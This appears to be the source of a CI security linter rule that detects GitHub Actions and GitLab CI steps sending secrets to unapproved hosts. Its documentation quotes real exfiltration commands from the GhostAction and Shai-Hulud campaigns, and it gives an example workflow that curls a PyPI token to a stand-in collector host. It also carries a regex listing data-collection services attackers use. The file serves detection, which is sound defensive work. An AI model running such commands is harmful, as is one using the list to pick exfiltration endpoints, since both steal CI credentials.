import { networkSends, scriptSends, type Send } from '../analysis/network.ts';
import { describeGitLabCredentials, gitlabScriptEnvironment } from '../analysis/gitlab.ts';
import { describeCredentials, type WordCredentials } from '../analysis/script-data.ts';
import type { Severity } from '../findings/finding.ts';
import { perLine } from './gitlab-report.ts';
import { defineRule } from './rule.ts';

interface Config {
  'allowed-hosts'?: string[];
}

/** Hosts that legitimately receive credentials from release workflows. */
const DEFAULT_ALLOWED = [
  'pypi.org',
  'upload.pypi.org',
  'test.pypi.org',
  'api.github.com',
  'uploads.github.com',
  'github.com',
  'ghcr.io',
  'registry.npmjs.org',
  'crates.io',
  'rubygems.org',
  'api.nuget.org',
  'index.docker.io',
  'registry-1.docker.io',
  'hub.docker.com',
];

/** Services attackers use to collect stolen data; a secret sent there is never legitimate. */
const COLLECTORS = /(^|\.)(webhook\.site|requestbin\.(com|net)|pipedream\.net|m\.pipedream\.net|ngrok\.(io|app|dev)|ngrok-free\.app|interact\.sh|oast\.(fun|live|me|pro|site|online)|burpcollaborator\.net|canarytokens\.com|beeceptor\.com|hookbin\.com|plesk\.page|trycloudflare\.com|pastebin\.com|transfer\.sh|discord(app)?\.com|api\.telegram\.org)$/;


export default defineRule<Config>({
  meta: {
    id: 'secret-exfiltration',
    summary: 'secrets sent over the network to a host other than a package index or the forge',
    severity: 'critical',
    confidence: 'high',
    configSchema: {
      type: 'object',
      additionalProperties: false,
      properties: {
        'allowed-hosts': {
          type: 'array',
          items: { type: 'string' },
          description: 'Extra hosts (or *.domain suffixes) allowed to receive secrets.',
        },
      },
    },
    docs: {
      why: `The GhostAction campaign (September 2025) pushed a workflow named "Github Actions Security" into
817 repositories; its one step ran \`curl -s -X POST -d 'DOCKER_PASSWORD=\${{ secrets.DOCKER_PASSWORD }}&…'\`
to an attacker's server and collected 3,325 secrets, PyPI, npm, Docker Hub, GitHub, Cloudflare and AWS
tokens among them. The Shai-Hulud worm's workflow sent \`\${{ toJSON(secrets) }}\` to webhook.site. Log
masking does not help here: the secret leaves in the request body, never in the log.

A release workflow needs to send credentials only to the package index and the forge's API. Any other
destination in the body, form, upload or URL of a request is reported; critical when it sends every
secret, several secrets at once, or goes to a bare IP address or a known collection service. A secret
used only as an \`Authorization\` header to an unknown host is usually a normal API call and is
reported only for collection services and IP addresses.

**GitLab CI.** Credentials are environment variables: CI/CD variables whose names say they are
credentials (\`TOKEN\`, \`PASSWORD\`, \`SECRET\`, \`_KEY\`, \`PAT\`, \`CREDENTIAL\`) and that the file does not set,
\`id_tokens:\` JWTs, \`secrets:\` values, and GitLab's own \`CI_JOB_TOKEN\`, \`CI_REGISTRY_PASSWORD\` and
\`CI_DEPLOY_PASSWORD\`. Requests carrying them to hosts other than the package indexes and gitlab.com
(or \`$CI_SERVER_URL\`/\`$CI_API_V4_URL\`, whose host is the instance's) are reported the same way; add a
self-managed instance's host to \`allowed-hosts\`.`,
      example: `on: [push, workflow_dispatch]
jobs:
  send-secrets:
    runs-on: ubuntu-latest
    steps:
      - run: curl -s -X POST -d 'PYPI_TOKEN=\${{ secrets.PYPI_TOKEN }}' https://collector.example

# GitLab CI
release:
  script:
    - curl -s -d "token=$PYPI_TOKEN" https://collector.example`,
      fix: `If you did not write the step, treat every secret the workflow could read as stolen: revoke and
rotate them (PyPI: Account settings → API tokens), remove the workflow, and require review of
workflow changes (CODEOWNERS on \`.github/workflows/\`, branch protection). If the destination is yours,
add it to the allowlist:

\`\`\`yaml
rules:
  secret-exfiltration:
    config:
      allowed-hosts: [deploy.example.com]
\`\`\``,
      references: [
        'https://blog.pypi.org/posts/2025-09-16-github-actions-token-exfiltration/',
        'https://blog.gitguardian.com/ghostaction-campaign-3-325-secrets-stolen/',
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#considering-cross-repository-access',
        'https://docs.gitlab.com/ci/variables/#cicd-variable-security',
      ],
      options: '`allowed-hosts`: extra hosts allowed to receive secrets; `*.example.com` matches subdomains.',
    },
  },

  step(step, scope, context) {
    const job = scope.kind === 'job' ? scope.job : undefined;
    const workflow = scope.kind === 'job' ? scope.workflow : undefined;
    const allowed = [...DEFAULT_ALLOWED, ...(context.config['allowed-hosts'] ?? [])];
    for (const send of networkSends(step, job, workflow)) {
      const verdict = judge(send, allowed);
      if (!verdict) continue;
      const { command } = send;
      context.report({
        message: `\`${command.program}\` sends ${describeCredentials(send.payload)} to ${verdict.destination}, which is not a package index or the forge's API`,
        span: command.span,
        severity: verdict.severity,
        key: `${step.route.join('/')}/${command.program}/${send.host ?? '?'}`,
      });
    }
  },

  gitlabPipeline(pipeline, context) {
    const allowed = [...DEFAULT_ALLOWED, ...GITLAB_ALLOWED, ...(context.config['allowed-hosts'] ?? [])];
    perLine(pipeline, context, (job, lines) => {
      for (const script of [job.script, job.afterScript]) {
        for (const send of scriptSends(script.parsed(), gitlabScriptEnvironment(job, script))) {
          const verdict = judge(send, allowed);
          if (!verdict) continue;
          const { command } = send;
          lines.add(job, `${command.program}/${send.host ?? '?'}`, {
            message: `\`${command.program}\` in GitLab CI job \`${job.name}\` sends ${describeGitLabCredentials(send.payload, job)} to ${verdict.destination}, which is not a package index or the GitLab instance`,
            span: command.span,
            severity: verdict.severity,
          });
        }
      }
    });
  },
});

/**
 * Whether a send is reported, how severely, and how its destination reads; undefined for sends to
 * allowed hosts, to the secret's own service, header-only sends to ordinary hosts, and sends of
 * named secrets to a destination computed at run time (usually the secret's own service).
 */
function judge(send: Send, allowed: string[]): { severity: Severity; destination: string } | undefined {
  const { host, payload } = send;
  if (host && isAllowed(host, allowed)) return undefined;
  if (host && isOwnService(host, payload)) return undefined;
  const collector = host !== null && (COLLECTORS.test(host) || isIpAddress(host));
  if (send.headerOnly && !collector) return undefined;
  const everySecret = payload.secrets.includes('*');
  const several = payload.secrets.filter((name) => name !== '*').length >= 2;
  if (!host && !everySecret) return undefined;
  const critical = everySecret || several || collector || payload.fetchedTokens.length > 0 || payload.runnerCredentials.length > 0;
  const destination = host ? `\`${host}\`${collector ? (isIpAddress(host) ? ' (a bare IP address)' : ' (a data-collection service)') : ''}` : 'a destination computed at run time';
  return { severity: critical ? 'critical' : 'high', destination };
}

/** GitLab.com's hosts; a self-managed instance is reached through `$CI_SERVER_URL` (a host computed at run time) or configured. */
const GITLAB_ALLOWED = ['gitlab.com', 'registry.gitlab.com'];

function isAllowed(host: string, allowed: string[]): boolean {
  return allowed.some((entry) => {
    const pattern = entry.toLowerCase();
    if (pattern.startsWith('*.')) return host.endsWith(pattern.slice(1)) || host === pattern.slice(2);
    return host === pattern;
  });
}

/** Names of package indexes and forges: their tokens go to the allowed hosts, never to look-alikes. */
const INDEX_WORDS = new Set(['pypi', 'npm', 'npmjs', 'github', 'gh', 'docker', 'dockerhub', 'cargo', 'crates', 'rubygems', 'gem', 'nuget']);

/**
 * Every secret sent is named after the host's service: \`CODECOV_TOKEN\` to \`codecov.io\`,
 * \`TELEGRAM_BOT_TOKEN\` to \`api.telegram.org\`. That is the secret doing its job (a bot token in the
 * bot API's URL), not theft: a stolen secret is sent to the attacker's host, which the victim's
 * secret names do not match. Secrets of package indexes are excluded, so \`PYPI_TOKEN\` to a
 * \`pypi.example\` look-alike is still reported.
 */
function isOwnService(host: string, payload: WordCredentials): boolean {
  if (payload.runnerCredentials.length || payload.fetchedTokens.length || !payload.secrets.length || payload.secrets.includes('*')) return false;
  if (isIpAddress(host)) return false;
  const labels = host.split('.');
  const service = labels.length >= 2 ? labels[labels.length - 2]! : '';
  if (!service || INDEX_WORDS.has(service)) return false;
  return payload.secrets.every((name) => name.toLowerCase().split(/[_-]+/).includes(service));
}

function isIpAddress(host: string): boolean {
  return /^\d{1,3}(\.\d{1,3}){3}$/.test(host) || host.startsWith('[');
}
